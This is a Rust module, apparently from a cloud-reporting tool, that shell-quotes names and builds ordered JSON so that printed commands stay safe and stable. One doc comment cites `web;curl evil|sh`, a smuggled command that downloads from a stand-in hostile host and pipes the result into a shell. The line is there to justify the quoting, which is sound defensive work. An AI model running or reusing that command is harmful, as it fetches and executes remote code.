//! Words of the shell commands that reports print. Pure.

/// One word of a shell command: as it is when it is plain, else quoted.
/// Tag keys, names and ids come from whoever made the resource or the call,
/// so a name like `web;curl evil|sh` must stay one harmless word.
pub(crate) fn word(text: &str) -> String {
    if !text.is_empty()
        && text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "_./:=@+-,".contains(c))
    {
        text.to_string()
    } else {
        format!("'{}'", text.replace('\'', "'\\''"))
    }
}
/// A JSON value as one word: for a CLI option whose shorthand would let a
/// comma or `=` in a name add fields of its own (an Auto Scaling group
/// named `web,Value=x`).
/// A JSON object with its fields in this order, whatever serde_json's
/// features (a map's order follows them, and other crates of a build decide
/// them): what a command in a report prints stays the same text.
pub(crate) fn json_object(fields: &[(&str, serde_json::Value)]) -> String {
    let fields: Vec<String> = fields
        .iter()
        .map(|(k, v)| format!("{}:{v}", serde_json::Value::from(*k)))
        .collect();
    format!("{{{}}}", fields.join(","))
}
